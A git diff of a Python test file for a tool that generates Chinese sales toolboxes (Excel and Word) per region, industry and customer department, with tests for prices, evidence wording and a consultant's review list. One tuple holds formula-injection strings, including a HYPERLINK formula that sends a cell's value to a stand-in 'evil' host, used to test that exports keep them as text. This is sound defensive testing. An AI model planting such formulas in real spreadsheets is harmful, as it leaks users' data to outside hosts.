@@ -13,12 +13,18 @@ from docx.oxml.ns import qn
 
 from casekit import domain
 from casekit.authoring.toolbox import (
+    EVIDENCE_FEW,
     JARGON,
+    REVIEW_COLUMNS,
     TITLES,
     Toolbox,
     build_toolbox,
+    evidence_sentence,
     jargon_findings,
     research_date,
+    review_markdown,
+    table_title,
+    write_review,
     write_toolbox_docx,
     write_toolbox_xlsx,
 )
@@ -110,9 +116,11 @@ def test_target_customer_model_covers_the_industries_of_the_research(bundle, heb
     assert "酒店" in model.index  # only an interview note (tag 酒店) mentions hotels in Hebei
     assert model.at["零售超市", "主推产品"].split("、")[0] == "宽视界"  # won and advanced there
     assert "安全防范" in model.at["零售超市", "典型需求"]
-    assert "证据较少" in model.at["酒店", "证据"] and model.at["零售超市", "证据"] == "较充分"
+    # five ride-alongs and a note: ample; a single note: few
+    assert model.at["零售超市", "证据"].endswith("（证据较多）")
+    assert model.at["酒店", "证据"] == "访谈记录1份（证据少，需要在工作中继续验证）"
     assert model.at["酒店", "主推产品"].startswith("商务领航·酒店版")
-    assert all(q.endswith("？") for q in model["开场提问"])
+    assert all(line.endswith("？") for q in model["开场提问"] for line in q.split("\n"))
     products = set(hebei.products)
     assert all(p in products for cell in model["主推产品"] for p in cell.split("、"))
 
@@ -143,7 +151,8 @@ def test_xlsx_has_cover_tables_and_pick_lists_and_is_reproducible(hebei, tmp_pat
     b = write_toolbox_xlsx(hebei, tmp_path / "sub" / "b.xlsx")
     assert a.read_bytes() == b.read_bytes()
     wb = openpyxl.load_workbook(a)
-    assert wb.sheetnames == ["使用说明", *TITLES.values(), "选项"]
+    assert wb.sheetnames == ["使用说明", *(table_title(key) for key, _ in hebei.tables()), "选项"]
+    assert "产品×部门需求·医院" in wb.sheetnames and "产品价格与套餐" in wb.sheetnames
     assert all(len(name) <= 31 for name in wb.sheetnames)
     assert wb["选项"].sheet_state == "hidden"
     cover = [v for row in wb["使用说明"].iter_rows(values_only=True) for v in row if v]
@@ -173,13 +182,15 @@ def test_docx_has_chinese_guides_tables_and_east_asian_fonts(hebei, tmp_path: Pa
     doc = docx.Document(str(a))
     text = "\n".join(p.text for p in doc.paragraphs)
     assert "河北转型产品营销工具箱" in text and "客户管理表四 拜访与跟进计划" in text
-    assert len(doc.tables) == len(TITLES)
+    assert len(doc.tables) == len(hebei.tables())
     assert doc.tables[0].rows[0].cells[0].text == "产品"
     assert {r.cells[0].text for r in doc.tables[0].rows[1:]} == set(hebei.products)
     assert doc.styles["Normal"].element.rPr.rFonts.get(qn("w:eastAsia")) == "宋体"
     runs = [r for p in doc.paragraphs for r in p.runs if r.text]
     assert runs and all(r._r.rPr.rFonts.get(qn("w:eastAsia")) == "宋体" for r in runs)
-    assert "请改写" in text and "服务器" in text  # the jargon finding is shown to the consultant
+    # the jargon finding goes to the consultant's list, not to the account managers' document
+    assert "请改写" not in text and "技术用语" not in text
+    assert "服务器" in hebei.review["问题"].str.cat()
 
 
 HOSTILE = ('=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)")
@@ -203,3 +214,133 @@ def test_catalogue_text_that_looks_like_a_formula_is_text_in_the_xlsx(bundle, tm
     assert set(HOSTILE) <= values  # the text is intact: product names in tables and pick-lists
     assert all(c.quotePrefix for c in cells if c.value in HOSTILE)  # stays text when edited in Excel
     assert HOSTILE[0] in {v for row in wb["选项"].iter_rows(values_only=True) for v in row}  # drop-down list
+
+
+# -- issue 13: a toolbox that speaks per department and industry -------------------------------
+
+
+def _office_text(path: Path) -> str:
+    if path.suffix == ".xlsx":
+        book = openpyxl.load_workbook(path)
+        return "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
+                         if c.value is not None)
+    doc = docx.Document(str(path))
+    return "\n".join([p.text for p in doc.paragraphs]
+                     + [c.text for t in doc.tables for row in t.rows for c in row.cells])
+
+
+@pytest.mark.parametrize("region", REGIONS)
+def test_each_department_hears_its_own_sentence(bundle, region):
+    toolbox = build_toolbox(bundle, region)
+    for key, frame in toolbox.tables():
+        if not (key == "product_departments" or key.startswith("industry_departments:")):
+            continue
+        for _, row in frame.iterrows():
+            said = [str(v) for v in row.iloc[1:] if str(v)]
+            assert len(said) == len(set(said)), (key, row.iloc[0], said)
+    # where the catalogue lists several departments for a product, several sentences are said
+    table = toolbox.product_departments.set_index("产品")
+    rows = bundle.catalogue[bundle.catalogue["region_id"] == region]
+    for name, departments in zip(rows["local_name"], rows["departments"]):
+        labels = [domain.CUSTOMER_DEPARTMENTS[d].label for d in departments]
+        assert all(table.at[name, label] for label in labels)
+        assert len({table.at[name, label] for label in labels}) == len(labels)
+
+
+def test_a_hospital_is_approached_through_its_own_departments(bundle):
+    nanning = build_toolbox(bundle, "南宁")
+    assert "hospital" in nanning.industry_departments
+    hospital = nanning.industry_departments["hospital"]
+    assert {"院办（院长）", "信息科（信息科长）", "门诊部（门诊部主任）", "药房（药房主任）"} <= set(hospital.columns)
+    assert not {"销售市场部", "总经理/决策层", "运营部"} & set(hospital.columns)
+    crm = hospital.set_index("产品").loc["客户关系管理模块"]
+    assert "病人" in crm["院办（院长）"] and "取药" in crm["药房（药房主任）"]
+    model = nanning.target_customers.set_index("行业")
+    assert model.at["医院", "先接触的部门"].startswith("院办（院长）")
+    assert "销售市场部" not in model.at["医院", "先接触的部门"]
+    assert model.at["医院", "开场提问"].startswith("院长：")
+    # an industry without a cast of its own uses the generic departments, and the list says so
+    assert "通用部门" in nanning.review.set_index("行").loc["教育", "问题"]
+
+
+def test_prices_and_packages_are_in_the_toolbox(bundle, tmp_path: Path):
+    nanning = build_toolbox(bundle, "nanning")
+    rows = bundle.catalogue[bundle.catalogue["region_id"] == "nanning"].set_index("local_name")
+    prices = nanning.prices.set_index("产品")
+    assert sorted(prices.index) == sorted(rows.index)
+    for name in rows.index:
+        assert prices.at[name, "价格"] == rows.at[name, "price"]
+        assert prices.at[name, "套餐"] == rows.at[name, "package"]
+    assert prices.at["视频看店", "同类业务"] == "宽带监控"
+    text = _office_text(write_toolbox_xlsx(nanning, tmp_path / "n.xlsx"))
+    assert "每月150元" in text and "视频看店 2路" in text
+    assert "每月150元" in _office_text(write_toolbox_docx(nanning, tmp_path / "n.docx"))
+
+
+def test_nanning_asks_each_industry_its_own_opening_questions(bundle):
+    model = build_toolbox(bundle, "南宁").target_customers
+    assert len(model) >= 7
+    firsts = [q.split("\n")[0] for q in model["开场提问"]]
+    assert len(set(firsts)) == len(firsts)  # the decision maker's first question differs per industry
+    assert len(set(model["开场提问"])) == len(model)
+    assert all(len(q.split("\n")) >= 2 for q in model["开场提问"])  # more than one person is asked
+
+
+@pytest.mark.parametrize(("visits", "notes", "said"), [
+    (2, 1, "工作随访2次、访谈记录1份（证据少，需要在工作中继续验证）"),
+    (0, 1, "访谈记录1份（证据少，需要在工作中继续验证）"),
+    (EVIDENCE_FEW - 1, 0, f"工作随访{EVIDENCE_FEW - 1}次（证据少，需要在工作中继续验证）"),
+    (EVIDENCE_FEW, 0, f"工作随访{EVIDENCE_FEW}次（证据一般：只有工作随访，需要用访谈印证）"),
+    (EVIDENCE_FEW - 1, 1, f"工作随访{EVIDENCE_FEW - 1}次、访谈记录1份（证据较多）"),
+])
+def test_evidence_is_said_plainly_from_counts(visits, notes, said):
+    assert evidence_sentence(visits, notes) == said
+
+
+@pytest.mark.parametrize("region", REGIONS)
+def test_few_pieces_of_research_are_never_called_ample(bundle, region):
+    import re
+
+    for said in build_toolbox(bundle, region).target_customers["证据"]:
+        visits = sum(int(n) for n in re.findall(r"工作随访(\d+)次", said))
+        notes = sum(int(n) for n in re.findall(r"访谈记录(\d+)份", said))
+        assert ("证据少" in said) == (visits + notes < EVIDENCE_FEW), said
+        assert "较充分" not in said
+
+
+@pytest.mark.parametrize("region", REGIONS)
+def test_no_editing_notes_in_the_account_managers_files(bundle, region, tmp_path: Path):
+    toolbox = build_toolbox(bundle, region)
+    for path in (write_toolbox_xlsx(toolbox, tmp_path / "t.xlsx"), write_toolbox_docx(toolbox, tmp_path / "t.docx")):
+        text = _office_text(path)
+        for note in ("请改写", "待补充", "待修改", "cast.yaml", "department_values", "customer_value"):
+            assert note not in text, (path.name, note)
+
+
+def test_the_review_list_collects_what_the_consultant_must_fix(bundle, tmp_path: Path):
+    import dataclasses
+
+    catalogue = bundle.catalogue.copy()
+    at = catalogue.index[(catalogue["region_id"] == "nanning") & (catalogue["local_name"] == "视频看店")][0]
+    catalogue.at[at, "price"] = None
+    catalogue.at[at, "canonical_product"] = "新业务"  # not in the phrasebook: the catalogue's one sentence
+    own = catalogue.index[(catalogue["region_id"] == "nanning") & (catalogue["local_name"] == "企业虚拟网")][0]
+    catalogue["department_values"] = None
+    catalogue.at[own, "department_values"] = {"finance": "各网点的钱每天汇到一本账上"}
+    toolbox = build_toolbox(dataclasses.replace(bundle, catalogue=catalogue), "nanning")
+
+    assert list(toolbox.review.columns) == list(REVIEW_COLUMNS)
+    review = toolbox.review.set_index(["表", "行", "列"])
+    assert review.loc[("产品价格与套餐", "视频看店", "价格"), "问题"].startswith("缺价格")
+    assert toolbox.prices.set_index("产品").at["视频看店", "价格"] == "以本地最新资费为准"
+    same = review.loc[("产品×部门需求", "视频看店", "安保部"), "问题"]
+    assert same.startswith("同一句话") and "department_values" in review.loc[("产品×部门需求", "视频看店", "安保部"), "建议"]
+    # the catalogue's own sentence for a department comes first
+    assert toolbox.product_departments.set_index("产品").at["企业虚拟网", "财务部"] == "各网点的钱每天汇到一本账上"
+
+    page = review_markdown(toolbox)
+    assert page.startswith("# 南宁转型产品营销工具箱：待修改清单") and "| 产品价格与套餐 | 视频看店 | 价格 |" in page
+    path = write_review(toolbox, tmp_path / "nanning_待修改清单.md")
+    assert path.read_text(encoding="utf-8") == page
+    text = _office_text(write_toolbox_docx(toolbox, tmp_path / "n.docx"))
+    assert "缺价格" not in text and "同一句话" not in text
